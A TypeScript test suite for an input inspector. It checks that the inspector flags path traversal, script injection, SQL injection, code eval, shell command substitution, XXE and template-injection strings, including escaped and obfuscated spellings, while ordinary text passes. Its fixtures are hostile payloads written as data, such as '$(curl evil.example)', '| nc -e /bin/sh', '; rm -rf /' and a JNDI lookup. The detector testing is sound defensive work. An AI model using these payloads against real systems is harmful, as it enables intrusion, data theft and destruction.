import fc from '../support/fast-check.ts'
import t from 'tap'
import { Inspector } from '../../src/core/inspection.ts'
import { PATTERNS } from '../../src/core/patterns.ts'

const inspector = new Inspector()
const inspect = (value: unknown, exempt?: ReadonlySet<string>) => inspector.inspectNow(value, exempt)

const HOSTILE: Record<string, readonly string[]> = {
  path_traversal: [
    '../../etc/passwd', '..\\..\\windows\\win.ini', 'a/../../b', '%2e%2e%2fetc%2fpasswd', '%252e%252e%252fetc', '..%2f..%2f', '..%5c..%5c', '%c0%ae%c0%ae/',
    '．．/etc/passwd', '&#46;&#46;/etc', 'file:///var/www/../../etc/shadow', 'images/..'
  ],
  script_tag: [
    '<script>alert(1)</script>', '<SCRIPT SRC=//evil>', '< script >', '<img src=x onerror=alert(1)>', '<svg/onload=alert(1)>', '<a href="javascript:alert(1)">',
    '%3Cscript%3E', '&lt;script&gt;', '&#60;script>', '＜script＞', '<body onload = go()>', '</script>', '<iframe src=javascript:alert(1)>'
  ],
  sql_union_select: [
    "' UNION SELECT username, password FROM users --", '1 union all select null,null', 'union/**/select/**/1,2', 'UNION(SELECT(1))', 'union%20select%20*%20from%20t', '0 union distinct select @@version'
  ],
  sql_tautology: [
    "' OR '1'='1", '" or 1=1 --', "admin') or ('a'='a", "'; DROP TABLE users; --", "x' or 'a' like 'a", "1'; delete from t", '; truncate table logs'
  ],
  code_eval: [
    'eval(atob("x"))', 'eval (x)', '__import__("os").system("id")', "require('child_process').exec", 'require("node:fs")', 'new Function("return 1")', 'os.system("ls")', 'exec(code)', 'import("child_process")'
  ],
  command_substitution: [
    '$(curl evil.example)', '`id`', '`cat /etc/passwd`', '; rm -rf /', '| nc -e /bin/sh', '&& curl https://evil', 'x; cat /etc/passwd', '$(/bin/bash -c x)', 'a\nrm -rf /', '%60whoami%60'
  ],
  null_byte: ['a\0b', 'file.png%00.php', 'a\u0000'],
  xxe: ['<!ENTITY x SYSTEM "file:///etc/passwd">', '<!DOCTYPE foo [ <!ELEMENT x ANY>', '<!doctype x SYSTEM "http://evil">', '<xi:include href="x"/>'],
  template_injection: ['${jndi:ldap://evil/a}', '${${lower:j}ndi:x}', '{{config.items()}}', '{{"".__class__}}', '${process.env.SECRET}', '#{T(java.lang.Runtime)}', '<%= system("id") %>', '{{self.constructor}}']
}

const HARMLESS = [
  'Hello, Ada!', 'select all union members', 'the student union will select a committee', '1..10', 'wait... what?', 'and.../or', 'a < b && c > d', 'if x < 3 then', 'rock & roll', 'R&D; QA', 'price is $5 (five)',
  "O'Brien", "it's 5 o'clock or later", 'He said "yes" or "no".', 'use eval carefully', 'the exec board meets (at noon)', 'file system (ext4)', 'file.name.txt', './relative/path', '/usr/local/bin', 'C:\\Users\\Ada',
  'https://example.com/a/b?c=d&e=f#g', 'https://example.com/?q=50%25+off', '# Title\n\n- item one\n- item two\n\n`code` and **bold**', 'run `npm test` first', '```\nconst x = 1\n```', 'const f = (a, b) => a + b',
  'x = {"a": [1, 2, 3]}', '<b>bold</b> and <i>italic</i>', '<p class="x">text</p>', '<div>1 < 2</div>', 'email <ada@example.com>', 'SELECT name FROM users WHERE id = 7', 'drop me a line; table is booked', 'DROP the idea',
  '{{name}}', 'Dear {{first_name}},', '${total}', 'cost: ${amount} EUR', '100% sure', 'ümläut und ß', '日本語のテキスト', '🙂 emoji', 'a;b;c', 'left | right', 'true || false', '(a || b)', 'Q: what? A: that.', 'javascript: the good parts',
  'on Monday = free', 'key=value; other=thing', 'git commit -m "fix: rm unused"', 'cat and dog', 'id', 'whoami is a command', 'the script ran', 'union of sets', '&amp;', 'AT&T', "'quoted'", '2026-07-28T12:00:00Z', 'a'.repeat(1000)
]

t.test('catches what is plainly an attack, escapes and all', async t => {
  for (const [pattern, texts] of Object.entries(HOSTILE)) {
    for (const text of texts) t.match(inspect({ text }), { path: 'text' }, `${pattern}: ${JSON.stringify(text)}`)
  }
  t.strictSame(Object.keys(HOSTILE).sort(), PATTERNS.map(({ name }) => name).sort(), 'every pattern has its examples')
})

t.test('names the pattern that the plain examples are meant for', async t => {
  for (const [pattern, [text]] of Object.entries(HOSTILE)) t.match(inspect(text), { pattern })
})

t.test('lets ordinary text pass', async t => {
  for (const text of HARMLESS) t.equal(inspect({ text }), undefined, JSON.stringify(text).slice(0, 60))
})

t.test('tables, characters of HTML and steps of a manual pass beside the commands that look like them', async t => {
  const ordinary = [
    '| id | name |\n| --- | --- |\n| 7 | Ada |', '|a|b|\n|-|-|\n|id|name|', 'name | id | age\n--- | --- | ---', '| id |\n|---|\n| 7 |', '&copy; 2026 Example', '&nbsp;&copy;', '&reg; and &top;',
    '```bash\nrm -rf node_modules && npm install\n```', 'Clean up first:\nrm -rf ./dist build', 'Use Function("a") to build it', "the keyword function ('a')", 'Le prix %C3%A0 payer'
  ]
  for (const text of ordinary) t.equal(inspect({ text }), undefined, JSON.stringify(text))
  const hostile = [
    '|id|', 'x|id|', '127.0.0.1|id|', 'x|id;', '& copy secret.txt x', '| reg query HKLM', '&& top', 'a\nrm -rf /', 'a\nrm -rf --no-preserve-root /', 'a\r\nrm -fr *',
    'eval/**/(atob("x"))', 'Function("return process")()', 'popen("id")', '1%a0union%a0select%a01,2', "1'%a0or%a01=1"
  ]
  for (const text of hostile) t.ok(inspect({ text }), JSON.stringify(text))
})

t.test('looks at every string and key, and says where', async t => {
  t.strictSame(inspect({ a: { b: ['x', 'y', '../z'] } }), { pattern: 'path_traversal', path: 'a.b.2' })
  t.strictSame(inspect({ a: { '<script>': 1 } }), { pattern: 'script_tag', path: 'a.(key)' })
  t.equal(inspect({ a: 1, b: true, c: null, d: [] }), undefined)
  t.equal(inspect(undefined), undefined)
})

t.test('leaves out what a tool is exempt from, and only that', async t => {
  t.equal(inspect('../x', new Set(['path_traversal'])), undefined)
  t.match(inspect('../x <script>', new Set(['path_traversal'])), { pattern: 'script_tag' })
})

t.test('finds what stands late in a long text, also across the seam of two pieces', async t => {
  for (const at of [65_530, 327_670, 393_210, 393_216, 720_000, 999_000]) t.match(inspect('a '.repeat(at / 2) + '<script>'), { pattern: 'script_tag' }, String(at))
})

t.test('escapes hide nothing, one in another, in a string of JSON, and behind however much text', async t => {
  const script = '<script>alert(1)</script>'
  const percent = (text: string) => [...Buffer.from(text)].map(byte => `%${byte.toString(16).padStart(2, '0')}`).join('')
  const decimal = (text: string) => [...text].map(letter => `&#${letter.charCodeAt(0)};`).join('')
  const padded = (text: string) => [...text].map(letter => `&#x0000${letter.charCodeAt(0).toString(16)}`).join('')
  const unicode = (text: string) => [...text].map(letter => `\\u${letter.charCodeAt(0).toString(16).padStart(4, '0')}`).join('')
  const braces = (text: string) => [...text].map(letter => `\\u{${letter.charCodeAt(0).toString(16)}}`).join('')
  const hex = (text: string) => [...text].map(letter => `\\x${letter.charCodeAt(0).toString(16).padStart(2, '0')}`).join('')
  const wide = (text: string) => [...text].map(letter => String.fromCodePoint(letter.charCodeAt(0) + 0xfee0)).join('')
  const unseen = (text: string) => [...text].join('\u200b')
  const json = (text: string) => JSON.stringify({ html: text })
  const octal = (text: string) => [...text].map(letter => `\\${letter.charCodeAt(0).toString(8)}`).join('')
  const ways = { percent, decimal, padded, unicode, braces, hex, octal, wide, unseen, json, entity: (text: string) => text.replaceAll('<', '&lt;') }
  for (const [outer, encode] of Object.entries(ways)) {
    t.match(inspect({ a: encode(script) }), { pattern: 'script_tag' }, outer)
    t.match(inspect({ a: 'x'.repeat(64_000) + encode(script) }), { pattern: 'script_tag' }, `${outer}, late`)
    for (const [inner, first] of Object.entries(ways)) {
      if ((outer === 'hex' || outer === 'octal' || outer === 'wide') && (inner === 'wide' || inner === 'unseen')) continue // they spell ASCII alone
      t.match(inspect({ a: encode(first(script)) }), { pattern: 'script_tag' }, `${inner} in ${outer}`)
    }
  }
  t.match(inspect(json(json(json(unicode(script))))), { pattern: 'script_tag' }, 'JSON in JSON in JSON')
  for (const text of ['%c0%ae%c0%ae%c0%af', '%e0%80%ae.%c1%9c', '%uff0e%uff0e%u2215', '..%c0%2f', '%252e%252e%252f', '%25252e%25252e%25252f']) t.match(inspect(`${text}etc/passwd`), { pattern: 'path_traversal' }, text)
  t.match(inspect('1%20UNION%0aSELECT%09password+FROM+users'), { pattern: 'sql_union_select' })
  t.match(inspect('1+union+select+password+from+users'), { pattern: 'sql_union_select' }, 'as forms encode it')
})

t.test('an attack is found in whatever way it is spelt', async t => {
  const spellings: Record<string, readonly string[]> = {
    script_tag: ['\\074script\\076', '\\74img src=x onerror=alert(1)\\76', '‹script›', '〈script〉', '⟨script⟩'],
    path_traversal: ['\\56\\56/\\56\\56/etc/passwd', '..\\057..\\057etc\\057passwd'],
    sql_tautology: ['’ OR ’1’=’1', '‘ or ‘1‘=‘1', 'admin’--', '” OR ”1”=”1', '“ or 1=1 --', 'ʼ OR ʼ1ʼ=ʼ1', '′ OR ′1′=′1', '1;DROP/**/TABLE/**/users', "'; delete/*x*/from t"],
    sql_union_select: ["1' /*!50000UNION*/ /*!50000SELECT*/ 1,2", '1 union /*!12345select*/ 1', '1/*!union*/select'],
    code_eval: [
      'window["eval"]("alert(1)")', "window['eval']('x')", 'self["ev"+"al"]("x")', 'globalThis["eval"](name)', 'this[`eval`]("1")', '(0,eval)("x")', '(1, window.eval)("x")', 'eval?.("x")',
      'window.eval?.("x")', 'eval.call(null, "x")', 'eval.apply(this,["x"])', 'Reflect.apply(eval,null,["x"])', 'x;eval`alert(1)`', 'setTimeout`alert(1)`', 'window["Function"]("x")()',
      'process["mainModule"].require("fs")', "process['binding']('fs')", 'require`child_process`'
    ],
    command_substitution: ['; $(printf id)', '|| $(echo aWQ=)', ';/???/??t /???/p??s??', 'x|/b?n/c?t /etc/hosts']
  }
  for (const [pattern, texts] of Object.entries(spellings)) for (const text of texts) t.match(inspect({ text }), { pattern }, text)
  for (const text of [
    'It’s “fine” or ‘so’', 'He said ‘yes’ or ‘no’.', '‹Zitat› und »Zitat«', 'see [`spawnSync`](https://nodejs.org/api)', 'Read [`eval`](https://developer.mozilla.org) first',
    'It uses `new Function`. Global mode (e.g. CSP) is off', 'the `eval` of `foo(1)`', 'replace(/(a)\\1/, "\\12")', 'C:\\56\\new', 'printf("\\033[0m")', 'obj["on" + name](event)', 'constraints["eval"] = 1',
    '/*!40101 SET NAMES utf8 */', 'What is 5′ 10″ in cm?', 'a union of 3 /* select */ things', 'Why? /a?/b'
  ]) t.equal(inspect({ text }), undefined, text)
})

t.test('a dot in a pattern is a line end, too', async t => {
  t.match(inspect('UNION SELECT\npassword\nFROM users'), { pattern: 'sql_union_select' })
  t.match(new Inspector({ level: 'strict' }).inspectNow('union\n\n of select'), { pattern: 'sql_union_select' })
})

t.test('at level strict the four literal patterns are refused wherever they stand, at the default level ordinary text passes', async t => {
  const strict = new Inspector({ level: 'strict' })
  const texts = { path_traversal: 'see ../README.md', script_tag: 'a <scripting> language', sql_union_select: 'a union that may select', code_eval: 'model.eval() and eval(s)' }
  for (const [pattern, text] of Object.entries(texts)) {
    t.equal(inspect(text), undefined, text)
    t.match(strict.inspectNow(text), { pattern }, text)
    t.match(strict.inspectNow(text.toUpperCase()), { pattern }, 'of either case')
  }
  for (const [, texts] of Object.entries(HOSTILE)) for (const text of texts) t.ok(strict.inspectNow(text), text)
})

t.test('whatever a pattern matches, its filter lets through', async t => {
  for (const { name, sources, strict, needs } of PATTERNS) {
    t.ok(needs, name)
    for (const source of strict === undefined ? sources : [...sources, strict]) {
      // Made by the source itself, in every alternative. Without its word boundaries, which the generator does not know, it makes more.
      fc.assert(fc.property(fc.stringMatching(new RegExp(source.replaceAll('\\b', ''))), text => needs!.test(text) && needs!.test(text.toUpperCase())), { numRuns: 500 })
    }
  }
})

t.test('what is in a tool that is exempt is no more looked for than what it is exempt from', async t => {
  t.equal(inspect('<script>', new Set(PATTERNS.map(({ name }) => name))), undefined)
})

t.test('patterns of the operator are asked beside those that ship', async t => {
  const own = new Inspector({ own: [{ name: 'iban', description: 'An account.', sources: ['\\bDE\\d{20}\\b'] }, { name: 'secret_word', description: 'Ours.', sources: ['schöner wohnen'] }] })
  t.match(own.inspectNow({ a: 'to DE02120300000000202051' }), { pattern: 'iban', path: 'a' })
  t.match(own.inspectNow('SCH%C3%96NER%20Wohnen'), { pattern: 'secret_word' })
  t.equal(own.inspectNow('to DE02120300000000202051', new Set(['iban'])), undefined)
  t.match(own.inspectNow('<script>'), { pattern: 'script_tag' })
  t.ok(own.patterns.has('iban'))
})

t.test('a value that unfolds to more text than is looked at is a finding itself', async t => {
  const small = new Inspector({ maxCharacters: 1000 })
  t.equal(small.inspectNow('a'.repeat(1000)), undefined)
  t.match(small.inspectNow({ a: 'b', c: 'a'.repeat(1000) }), { pattern: 'too_much_text', path: 'c' })
  t.match(small.inspectNow('%25'.repeat(300) + '%'), { pattern: 'too_much_text' }, 'decoded text counts')
  t.equal(small.inspectNow('a'.repeat(1001), new Set(['too_much_text'])), undefined)
})

/** What one text of a megabyte is made of. */
const PUMPS = [
  '<script', "' or ", '../', '{{', '<a onx', '$(', '%2e', '&#46', ' ', '<!doctype ', 'union ', '&lt', '. . ', '"', '\uff0e', 'a<', '&amp;lt;a', '\ufdfa', 'Die Straße ist lang. ', '漢字かな', 'привет мир ', '\\u003', '\\\\', '%', '&',
  '%25', "' ", '`', ';', '(select ', '[', '\u0301', '😀', 'a', '{{a', '${', '<% ', '<a ', 'union/*', '--', 'x=', '1 or ', '/..', '\0a'
]

t.test('long text is looked at in slices that give way, and none of them is long', async t => {
  const others = new Set(['null_byte'])
  for (const pump of PUMPS) {
    const text = pump.repeat(Math.ceil(1_000_000 / Buffer.byteLength(pump)))
    const exempt = pump === '\0a' ? others : undefined
    let longest = 0
    let slices = 0
    const search = inspector.inspect({ text }, exempt)
    if (search instanceof Promise) {
      const state = { done: false }
      search.finally(() => { state.done = true }).catch(() => {})
      while (!state.done) {
        const start = process.cpuUsage()
        await new Promise(resolve => setImmediate(resolve))
        const { user, system } = process.cpuUsage(start)
        longest = Math.max(longest, user + system)
        slices++
      }
    }
    // A bound with room for a machine of any kind; docs/measurements.md has the figures.
    t.ok(longest < 400_000, `${JSON.stringify(pump)}: ${slices} slices, the longest ${longest} µs`)
  }
})

t.test('time is in proportion to the text, whatever it is made of', async t => {
  for (const pump of PUMPS) {
    const time = (length: number) => {
      const text = pump.repeat(Math.ceil(length / pump.length))
      const start = process.cpuUsage()
      inspect(text)
      const { user, system } = process.cpuUsage(start)
      return user + system
    }
    time(50_000)
    const small = Math.max(Math.min(time(60_000), time(60_000)), 4000)
    const large = Math.min(time(240_000), time(240_000))
    t.ok(large / small < 9, `${JSON.stringify(pump)}: ${small} µs, four times as long ${large} µs`)
  }
})

t.test('long searches take turns, so that many are no longer a pause than one', async t => {
  const text = 'Die Straße ist lang; das Haus (rot) ist klein = 5. '.repeat(6_000)
  const ended: number[] = []
  const started = Array.from({ length: 6 }, async (_, i) => { await inspector.inspect({ text: text + i }); ended.push(i) })
  let turns = 0
  const state = { done: false }
  const counting = Promise.all(started).then(() => { state.done = true })
  while (!state.done) {
    await new Promise(resolve => setImmediate(resolve))
    turns++
  }
  await counting
  t.equal(ended.length, 6)
  t.ok(turns > 12, `${turns} turns of the loop`)
})

t.test('many short strings, keys and deep nesting cost what their characters cost', async t => {
  const wide = Object.fromEntries(Array.from({ length: 60_000 }, (_, i) => [`key${i}`, 'a']))
  const list = Array.from({ length: 60_000 }, () => 'word')
  let deep: unknown = 'x'
  for (let i = 0; i < 5_000; i++) deep = { a: deep }
  for (const value of [wide, list, deep]) t.equal(await inspector.inspect(value), undefined)
  t.match(await inspector.inspect({ ...wide, last: '; rm -rf /' }), { pattern: 'command_substitution', path: 'last' })
  t.ok(inspect({ ['k'.repeat(100_000)]: { b: '../../etc/passwd' } })!.path.length <= 200)
})
